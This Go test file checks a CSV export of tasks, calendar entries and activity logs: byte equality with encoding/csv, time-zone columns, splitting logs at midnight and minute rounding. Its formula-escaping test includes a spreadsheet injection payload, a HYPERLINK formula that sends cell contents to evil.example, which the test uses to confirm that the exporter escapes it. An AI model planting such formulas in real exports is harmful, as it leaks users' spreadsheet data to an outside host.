// Copyright 2026 The events authors.
// SPDX-License-Identifier: Apache-2.0

package models

import (
	"bytes"
	"encoding/csv"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

// csvLine is what encoding/csv's Writer (UseCRLF, as RFC 4180 has it)
// writes for record: what AppendCSVRecord and appendCSVField must write.
func csvLine(t testing.TB, record []string) string {
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	w.UseCRLF = true
	if err := w.Write(record); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	return buf.String()
}

var csvSeeds = []string{
	"", "plain", "a,b", `say "hi"`, "line\nbreak", "cr\rlf\r\n", " leading", "\tleading tab", "trailing ",
	`\.`, `\`, "\u00a0nbsp first", "\u3000ideographic space first", "회의록, \"정리\"", "=1+2", "\"", ",",
}

// TestCSVRecordIsEncodingCSV: an export's lines are byte for byte what
// encoding/csv writes for the same cells, the header included.
func TestCSVRecordIsEncodingCSV(t *testing.T) {
	var names []string
	for i := range EventFields {
		names = append(names, EventFields[i].Name)
	}
	names = append(names, "local_date", "local_start", "local_end", "minutes", "counted_minutes")
	if got, want := string(AppendCSVHeader(nil)), csvLine(t, names); got != want {
		t.Errorf("header %q, want %q", got, want)
	}
	at := time.Date(2026, 11, 22, 3, 4, 5, 123456000, time.UTC)
	dayOnly := EndOfDay(2026, 11, 25, mustZone(t, "Asia/Seoul"))
	dates := 0
	for i, text := range csvSeeds {
		tag := text
		e := Event{ID: int64(i + 1), Kind: KindTask, Status: StatusPlanned, Title: text, Description: text,
			DueAt: &at, Priority: i % 4, AllDay: i%2 == 0, CreatedAt: at, UpdatedAt: at, Zone: ptr("Asia/Seoul")}
		if i%3 == 0 {
			e.ProjectTag = &tag
		}
		if i%4 == 0 {
			e.DueAt = &dayOnly // due_date 2026-11-25
			dates++
		}
		if i%5 == 0 {
			e.Zone = nil // nor due_date
		}
		cells := referenceCells(&e, func(s string) string { return s })
		if i%4 == 0 { // a task's due time, in UTC
			cells = append(cells, "2026-11-25", "2026-11-25 14:59", "", "", "")
		} else {
			cells = append(cells, "2026-11-22", "2026-11-22 03:04", "", "", "")
		}
		if got, want := string(AppendCSVRecord(nil, &e, CSVOptions{Formulas: CSVFormulasRaw, Loc: time.UTC})), csvLine(t, cells); got != want {
			t.Errorf("text %q:\n%q\nwant\n%q", text, got, want)
		}
		if due := fieldIndex["due_date"]; i%4 == 0 && i%5 != 0 && dateCell(due, &e) != "2026-11-25" {
			t.Errorf("text %q: due_date %q, want 2026-11-25", text, dateCell(due, &e))
		}
	}
	if dates == 0 {
		t.Fatal("no row with a date")
	}
}

// dateCell is a computed date's cell: YYYY-MM-DD, empty for null.
func dateCell(f *Field, e *Event) string {
	if d, ok := f.Date(e); ok {
		return d.Format(time.DateOnly)
	}
	return ""
}

// FuzzCSVField: any cell is written as encoding/csv writes it.
func FuzzCSVField(f *testing.F) {
	for _, s := range csvSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := string(append(appendCSVField(nil, s), ",x\r\n"...))
		if want := csvLine(t, []string{s, "x"}); got != want {
			t.Errorf("%q: %q, want %q", s, got, want)
		}
	})
}

// TestCSVFormulasAreEscaped: a text cell that begins with =, +, -, @, a tab
// or a carriage return is written with a leading ', in every text column,
// and the line is still what encoding/csv writes for those cells; with
// CSVFormulasRaw every cell is as stored. Other text, and every time,
// number and boolean cell, is as it was.
func TestCSVFormulasAreEscaped(t *testing.T) {
	seoul, err := LoadZone("Asia/Seoul")
	if err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 11, 22, 3, 4, 5, 0, time.UTC)
	for _, text := range []string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx", "=1+2",
		"a=b", " =x", "'quoted", "", "회의 = meeting",
	} {
		formula := strings.ContainsAny(text[:min(1, len(text))], "=+-@\t\r")
		if got := IsCSVFormula(text); got != formula {
			t.Errorf("IsCSVFormula(%q) = %v", text, got)
		}
		tag, ref, source := text, text, Source("import")
		e := Event{ID: 7, Kind: KindTask, Status: StatusPlanned, Title: text, Description: text, ProjectTag: &tag,
			Source: &source, SourceRef: &ref, DueAt: &at, Priority: 3, CreatedAt: at, UpdatedAt: at}
		for _, formulas := range []CSVFormulas{CSVFormulasEscaped, CSVFormulasRaw} {
			escaped := 0
			cells := referenceCells(&e, func(s string) string {
				if formulas == CSVFormulasEscaped && formula && s == text {
					escaped++
					return "'" + s
				}
				return s
			})
			if formulas == CSVFormulasEscaped && formula && escaped != 4 {
				t.Fatalf("%q: %d text columns hold it, want title, description, project_tag and source_ref", text, escaped)
			}
			cells = append(cells, "2026-11-22", "2026-11-22 12:04", "", "", "") // in Seoul: no formula to escape
			if got, want := string(AppendCSVRecord(nil, &e, CSVOptions{Formulas: formulas, Loc: seoul})), csvLine(t, cells); got != want {
				t.Errorf("%q (formulas %d):\n%q\nwant\n%q", text, formulas, got, want)
			}
		}
	}
}

// TestCSVLocalColumns: the columns after the JSON fields say where each
// kind of event sits in the request's zone: local_date, local_start and
// local_end as YYYY-MM-DD HH:MM (dates alone for an all-day entry, its
// last day inclusive, and for a task's due day without a time, both read
// in the service's zone whatever the request's), and minutes, the span's
// length rounded to the minute, empty without an end.
func TestCSVLocalColumns(t *testing.T) {
	seoul, err := LoadZone("Asia/Seoul")
	if err != nil {
		t.Fatal(err)
	}
	ny, err := LoadZone("America/New_York")
	if err != nil {
		t.Fatal(err)
	}
	at := func(s string) *time.Time {
		tm, err := time.Parse(time.RFC3339Nano, s)
		if err != nil {
			t.Fatal(err)
		}
		return &tm
	}
	dueDay := EndOfDay(2026, 11, 24, seoul)
	for _, c := range []struct {
		name string
		e    Event
		loc  *time.Location
		want string
	}{
		{"task due", Event{Kind: KindTask, DueAt: at("2026-11-23T06:30:00Z")}, seoul, "2026-11-23,2026-11-23 15:30,,,"},
		{"task due, in New York", Event{Kind: KindTask, DueAt: at("2026-11-23T06:30:00Z")}, ny, "2026-11-23,2026-11-23 01:30,,,"},
		{"task due a day without a time", Event{Kind: KindTask, DueAt: &dueDay}, seoul, "2026-11-24,2026-11-24,,,"},
		{"task due a day, in New York", Event{Kind: KindTask, DueAt: &dueDay}, ny, "2026-11-24,2026-11-24,,,"},
		{"task with a start only", Event{Kind: KindTask, StartAt: at("2026-11-23T00:00:00Z")}, seoul, "2026-11-23,2026-11-23 09:00,,,"},
		{"task without a time", Event{Kind: KindTask}, seoul, ",,,,"},
		{"calendar entry", Event{Kind: KindCalendarEvent, StartAt: at("2026-11-23T05:00:00Z"), EndAt: at("2026-11-23T06:30:00Z")}, seoul,
			"2026-11-23,2026-11-23 14:00,2026-11-23 15:30,90,"},
		{"calendar entry across midnight", Event{Kind: KindCalendarEvent, StartAt: at("2026-11-23T14:30:00Z"), EndAt: at("2026-11-23T15:30:00Z")}, seoul,
			"2026-11-23,2026-11-23 23:30,2026-11-24 00:30,60,"},
		{"calendar entry without an end", Event{Kind: KindCalendarEvent, StartAt: at("2026-11-23T05:00:00Z")}, seoul, "2026-11-23,2026-11-23 14:00,,,"},
		{"all-day entry", Event{Kind: KindCalendarEvent, AllDay: true, StartAt: at("2026-11-23T15:00:00Z"), EndAt: at("2026-11-24T15:00:00Z")}, seoul,
			"2026-11-24,2026-11-24,2026-11-24,1440,"},
		{"all-day entry of three days, in New York", Event{Kind: KindCalendarEvent, AllDay: true, StartAt: at("2026-12-02T15:00:00Z"), EndAt: at("2026-12-05T15:00:00Z")}, ny,
			"2026-12-03,2026-12-03,2026-12-05,4320,"},
		{"log", Event{Kind: KindActivityLog, Status: StatusDone, StartedAt: at("2026-11-23T00:00:00Z"), EndedAt: at("2026-11-23T00:45:00Z")}, seoul,
			"2026-11-23,2026-11-23 09:00,2026-11-23 09:45,45,"},
		{"log of 29.5 s past the minute", Event{Kind: KindActivityLog, Status: StatusDone, StartedAt: at("2026-11-23T00:00:10Z"), EndedAt: at("2026-11-23T00:30:39.5Z")}, seoul,
			"2026-11-23,2026-11-23 09:00,2026-11-23 09:30,30,"},
		{"log of 30 s past the minute", Event{Kind: KindActivityLog, Status: StatusDone, StartedAt: at("2026-11-23T00:00:10Z"), EndedAt: at("2026-11-23T00:30:40Z")}, seoul,
			"2026-11-23,2026-11-23 09:00,2026-11-23 09:30,31,"},
		{"running log", Event{Kind: KindActivityLog, Status: StatusInProgress, StartedAt: at("2026-11-23T00:00:00Z")}, seoul, "2026-11-23,2026-11-23 09:00,,,"},
		{"log with an end only", Event{Kind: KindActivityLog, Status: StatusDone, EndedAt: at("2026-11-23T00:00:00Z")}, seoul, "2026-11-23,,2026-11-23 09:00,,"},
		{"log of an instant", Event{Kind: KindActivityLog, Status: StatusDone, StartedAt: at("2026-11-23T00:00:00Z"), EndedAt: at("2026-11-23T00:00:00Z")}, seoul,
			"2026-11-23,2026-11-23 09:00,2026-11-23 09:00,0,"},
	} {
		line := string(AppendCSVRecord(nil, &c.e, CSVOptions{Loc: c.loc, DayLoc: seoul}))
		cells := strings.Split(strings.TrimSuffix(line, "\r\n"), ",")
		if got := strings.Join(cells[len(cells)-5:], ","); got != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
}

// referenceCells are the CSV cells of e's fields as encoding/csv would be
// given them, each text or enum cell passed through text (the formula
// escaping, or none): the reference AppendCSVRecord is compared with.
func referenceCells(e *Event, text func(string) string) []string {
	var cells []string
	for j := range EventFields {
		f := &EventFields[j]
		switch f.Type {
		case TypeText, TypeEnum:
			s, _ := f.Text(e)
			cells = append(cells, text(s))
		case TypeTime:
			s := ""
			if t := f.Time(e); t != nil {
				s = FormatTime(*t)
			}
			cells = append(cells, s)
		case TypeBool:
			cells = append(cells, strconv.FormatBool(f.Bool(e)))
		case TypeDate:
			cells = append(cells, dateCell(f, e))
		case TypeLabels:
			cells = append(cells, text(strings.Join(f.Labels(e), LabelsSeparator)))
		default:
			cells = append(cells, strconv.FormatInt(f.Int(e), 10))
		}
	}
	return cells
}

// TestCSVLogPieces: a log that crosses local midnight is a row per day
// piece (DESIGN.md, Summary, Days), each with the log's fields, its own
// local_date, bounds and minutes, and what Counted says the piece counts
// toward its day; a running log's pieces reach now, the last without an
// end; a cancelled log counts 0; a window leaves out the pieces of days
// outside it. Before, the whole log was one row on the day it started.
func TestCSVLogPieces(t *testing.T) {
	seoul, err := LoadZone("Asia/Seoul")
	if err != nil {
		t.Fatal(err)
	}
	at := func(s string) *time.Time {
		tm, err := time.ParseInLocation("2006-01-02 15:04", s, seoul)
		if err != nil {
			t.Fatal(err)
		}
		return &tm
	}
	counted := func(id int64, day string) int64 { return id*1000 + int64(day[9]-'0') }
	for _, c := range []struct {
		name     string
		e        Event
		now      string
		from, to string
		want     []string
	}{
		{"log across midnight", Event{ID: 1, Kind: KindActivityLog, Status: StatusDone, StartedAt: at("2026-11-25 23:10"), EndedAt: at("2026-11-26 00:50")}, "", "", "",
			[]string{"2026-11-25,2026-11-25 23:10,2026-11-26 00:00,50,1005", "2026-11-26,2026-11-26 00:00,2026-11-26 00:50,50,1006"}},
		{"log up to midnight", Event{ID: 2, Kind: KindActivityLog, Status: StatusDone, StartedAt: at("2026-11-25 23:10"), EndedAt: at("2026-11-26 00:00")}, "", "", "",
			[]string{"2026-11-25,2026-11-25 23:10,2026-11-26 00:00,50,2005"}},
		{"log over two midnights", Event{ID: 3, Kind: KindActivityLog, Status: StatusDone, StartedAt: at("2026-11-23 22:00"), EndedAt: at("2026-11-25 01:00")}, "", "", "",
			[]string{"2026-11-23,2026-11-23 22:00,2026-11-24 00:00,120,3003", "2026-11-24,2026-11-24 00:00,2026-11-25 00:00,1440,3004",
				"2026-11-25,2026-11-25 00:00,2026-11-25 01:00,60,3005"}},
		{"running log across midnight", Event{ID: 4, Kind: KindActivityLog, Status: StatusInProgress, StartedAt: at("2026-11-25 23:30")}, "2026-11-26 00:20", "", "",
			[]string{"2026-11-25,2026-11-25 23:30,2026-11-26 00:00,30,4005", "2026-11-26,2026-11-26 00:00,,,4006"}},
		{"cancelled log", Event{ID: 5, Kind: KindActivityLog, Status: StatusCancelled, StartedAt: at("2026-11-25 23:30"), EndedAt: at("2026-11-26 00:30")}, "", "", "",
			[]string{"2026-11-25,2026-11-25 23:30,2026-11-26 00:00,30,0", "2026-11-26,2026-11-26 00:00,2026-11-26 00:30,30,0"}},
		{"a window's days only", Event{ID: 6, Kind: KindActivityLog, Status: StatusDone, StartedAt: at("2026-11-22 23:00"), EndedAt: at("2026-11-23 01:00")}, "", "2026-11-23 00:00", "2026-11-30 00:00",
			[]string{"2026-11-23,2026-11-23 00:00,2026-11-23 01:00,60,6003"}},
		{"a window ending mid-log", Event{ID: 7, Kind: KindActivityLog, Status: StatusDone, StartedAt: at("2026-11-29 23:00"), EndedAt: at("2026-11-30 01:00")}, "", "2026-11-23 00:00", "2026-11-30 00:00",
			[]string{"2026-11-29,2026-11-29 23:00,2026-11-30 00:00,60,7009"}},
		{"calendar entry across midnight stays one row", Event{ID: 8, Kind: KindCalendarEvent, StartAt: at("2026-11-25 23:30"), EndAt: at("2026-11-26 00:30")}, "", "", "",
			[]string{"2026-11-25,2026-11-25 23:30,2026-11-26 00:30,60,"}},
	} {
		o := CSVOptions{Loc: seoul, Counted: counted}
		if c.now != "" {
			o.Now = *at(c.now)
		}
		if c.from != "" {
			o.From, o.To = at(c.from), at(c.to)
		}
		out := strings.TrimSuffix(string(AppendCSVRecord(nil, &c.e, o)), "\r\n")
		lines := strings.Split(out, "\r\n")
		if len(lines) != len(c.want) {
			t.Errorf("%s: %d rows, want %d:\n%s", c.name, len(lines), len(c.want), out)
			continue
		}
		fields := string(appendCSVFields(nil, &c.e, o))
		for i, line := range lines {
			if !strings.HasPrefix(line, fields+",") {
				t.Errorf("%s: row %d does not begin with the log's fields: %q", c.name, i, line)
			}
			cells := strings.Split(line, ",")
			if got := strings.Join(cells[len(cells)-5:], ","); got != c.want[i] {
				t.Errorf("%s: row %d %q, want %q", c.name, i, got, c.want[i])
			}
		}
	}
}

// TestSplitMinutes: shown parts add up to the shown total (the largest
// remainder at the minute), each within a minute of its exact value, ties
// to the earlier part; a total is its seconds to the nearest minute, half
// up, on every screen (a 30-second log is 1 minute).
func TestSplitMinutes(t *testing.T) {
	for _, c := range []struct {
		total int64
		parts []int64
		want  []int64
	}{
		{MinutesOf(90 + 90), []int64{90, 90}, []int64{2, 1}},
		{MinutesOf(220 + 220 + 20), []int64{220, 220, 20}, []int64{4, 4, 0}},
		{MinutesOf(100 + 100 + 100), []int64{100, 100, 100}, []int64{2, 2, 1}},
		{MinutesOf(29), []int64{29}, []int64{0}},
		{MinutesOf(30), []int64{30}, []int64{1}},
		{MinutesOf(6000), []int64{1000, 2000, 3000}, []int64{17, 33, 50}},
		{0, nil, []int64{}},
	} {
		got := SplitMinutes(c.total, c.parts)
		if !slices.Equal(got, c.want) {
			t.Errorf("SplitMinutes(%d, %v) = %v, want %v", c.total, c.parts, got, c.want)
		}
	}
	r := rand.New(rand.NewPCG(55, 1))
	for range 2000 {
		parts := make([]int64, 1+r.IntN(6))
		var sum int64
		for i := range parts {
			parts[i] = r.Int64N(5 * 3600)
			sum += parts[i]
		}
		total := MinutesOf(sum)
		got := SplitMinutes(total, parts)
		var n int64
		for i, m := range got {
			n += m
			if d := m*60 - parts[i]; d <= -60 || d >= 60 {
				t.Fatalf("%v: part %d is %d min, off its %d s by a minute or more", parts, i, m, parts[i])
			}
		}
		if n != total {
			t.Fatalf("%v: parts %v add up to %d, want %d", parts, got, n, total)
		}
	}
}
